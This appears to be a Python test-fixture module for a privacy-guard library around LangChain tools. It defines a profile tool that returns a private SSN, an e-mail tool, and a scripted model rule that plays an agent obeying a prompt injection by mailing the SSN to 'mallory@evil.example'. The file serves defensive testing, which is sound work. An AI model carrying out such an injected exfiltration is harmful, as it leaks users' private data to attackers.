"""What the retrofit tests share: a profile tool with a handled SSN, a mail tool, and a model that obeys an
injection by mailing the SSN (as it holds it) to mallory; and a profile tool that shows the SSN in clear."""

from __future__ import annotations

import json
from typing import Any

from langchain_core.tools import tool

from guards import privacy_sink, privacy_source

USER = "me@home.example"
MALLORY = "mallory@evil.example"
SSN = "078-05-1120"
CFG = {"configurable": {"thread_id": "t"}}


@tool("get_profile")
@privacy_source(private=["ssn"], handle=False, kind="profile")
def get_profile_in_clear() -> dict:
    """The user's profile (its SSN private, shown in clear: tracked by value)."""
    return {"name": "Me", "ssn": SSN}


def profile_and_mail(sent: list[Any]) -> tuple[Any, Any, Any]:
    """`get_profile` (the SSN private and handled), `send_email` (which appends to `sent`) and the scripted
    model's rule: the profile, then the SSN mailed to mallory, then done."""

    @tool
    @privacy_sink()
    @privacy_source(private=["ssn"], kind="profile")
    def get_profile() -> dict:
        """The user's profile."""
        return {"name": "Ann", "ssn": SSN}

    @tool
    @privacy_sink(disclose={"body": "to"}, authority=["to"])
    @privacy_source()
    def send_email(to: str, body: str) -> str:
        """Send an e-mail."""
        sent.append((to, body))
        return "sent"

    def rule(messages: list[Any]) -> Any:
        results = [m for m in messages if m.type == "tool"]
        if not results:
            return ("get_profile", {})
        if len(results) == 1:  # an injection obeyed: the SSN as the model holds it, to mallory
            return ("send_email", {"to": MALLORY, "body": json.loads(results[0].content)["ssn"]})
        return "done"

    return get_profile, send_email, rule
